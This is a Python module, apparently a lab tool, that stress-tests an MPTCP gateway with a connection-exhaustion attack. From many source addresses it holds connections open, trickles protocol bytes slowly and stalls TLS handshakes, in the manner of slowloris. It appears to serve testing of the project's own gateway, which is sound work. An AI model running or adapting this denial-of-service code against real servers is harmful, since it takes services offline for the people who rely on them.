"""An admission attacker (in a netns): ``python -m mtlab.attack --target H:P --base A --count N``.

From N source addresses (``--base`` + i, on an interface of this namespace), it keeps
``--per-source`` MPTCP connections open to the BGW at all times and reopens each one as soon as the
BGW closes it. The connections behave in three ways, in turn: silent; a CLAIM trickled one byte
every ``--trickle-s`` seconds; a complete CLAIM for ``--claim`` followed by half a TLS record
(so a worker holds a TLS handshake). Prints one JSON line per second: connections open, opened
and closed so far.
"""

from __future__ import annotations

import argparse
import errno
import ipaddress
import json
import resource
import select
import socket
import sys
import time

IPPROTO_MPTCP = getattr(socket, "IPPROTO_MPTCP", 262)
MAGIC = b"\x0fMTN"


def claim(cpe_id: str) -> bytes:
    body = cpe_id.encode()
    return MAGIC + bytes([1, 5]) + len(body).to_bytes(2, "big") + body


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(prog="mtlab.attack")
    p.add_argument("--target", required=True)
    p.add_argument("--base", required=True, help="first source address")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--per-source", type=int, default=10)
    p.add_argument("--seconds", type=float, default=30)
    p.add_argument("--trickle-s", type=float, default=2.0)
    p.add_argument("--claim", default="cpe1")
    args = p.parse_args(argv)
    host, _, port = args.target.rpartition(":")
    target = (host, int(port))
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = args.count * args.per_source + 256
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(want, hard)), hard))
    base = ipaddress.ip_address(args.base)
    sources = [str(base + i) for i in range(args.count)]
    ep = select.epoll()
    conns: dict[int, tuple[socket.socket, int, str, int]] = {}  # fd -> (sock, kind, src, sent)
    stats = {"open": 0, "opened": 0, "closed": 0, "errors": 0}
    payload = claim(args.claim)
    stall = payload + b"\x16\x03\x01\x02\x00\x01\x00"  # a TLS record header promising 512 bytes
    serial = 0

    def open_one(src: str) -> None:
        nonlocal serial
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, IPPROTO_MPTCP)
        s.setblocking(False)
        try:
            s.bind((src, 0))
            err = s.connect_ex(target)
        except OSError:
            s.close()
            stats["errors"] += 1
            return
        if err not in (0, errno.EINPROGRESS):
            s.close()
            stats["errors"] += 1
            return
        kind = serial % 3
        serial += 1
        conns[s.fileno()] = (s, kind, src, 0)
        ep.register(s.fileno(), select.EPOLLIN | select.EPOLLOUT)
        stats["opened"] += 1

    def close_one(fd: int) -> None:
        s, _kind, src, _sent = conns.pop(fd)
        ep.unregister(fd)
        s.close()
        stats["closed"] += 1
        reopen.append((time.monotonic() + 0.05, src))

    reopen: list[tuple[float, str]] = []
    for src in sources:
        for _ in range(args.per_source):
            open_one(src)
    start = last_report = last_trickle = time.monotonic()
    while time.monotonic() - start < args.seconds:
        for fd, events in ep.poll(0.2):
            if fd not in conns:
                continue
            s, kind, src, sent = conns[fd]
            if events & select.EPOLLOUT:
                ep.modify(fd, select.EPOLLIN)
                if kind == 2:
                    try:
                        s.send(stall)
                    except OSError:
                        close_one(fd)
                        continue
            if events & (select.EPOLLIN | select.EPOLLERR | select.EPOLLHUP):
                try:
                    data = s.recv(4096)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                if not data:
                    close_one(fd)
        now = time.monotonic()
        if now - last_trickle >= args.trickle_s:
            last_trickle = now
            for fd, (s, kind, src, sent) in list(conns.items()):
                if kind == 1 and sent < len(payload):
                    try:
                        s.send(payload[sent : sent + 1])
                        conns[fd] = (s, kind, src, sent + 1)
                    except OSError:
                        close_one(fd)
        due = [r for r in reopen if r[0] <= now]
        reopen = [r for r in reopen if r[0] > now]
        for _, src in due:
            open_one(src)
        if now - last_report >= 1.0:
            last_report = now
            stats["open"] = len(conns)
            print(json.dumps({"t": round(now - start, 1), **stats}), flush=True)
    for s, *_ in conns.values():
        s.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
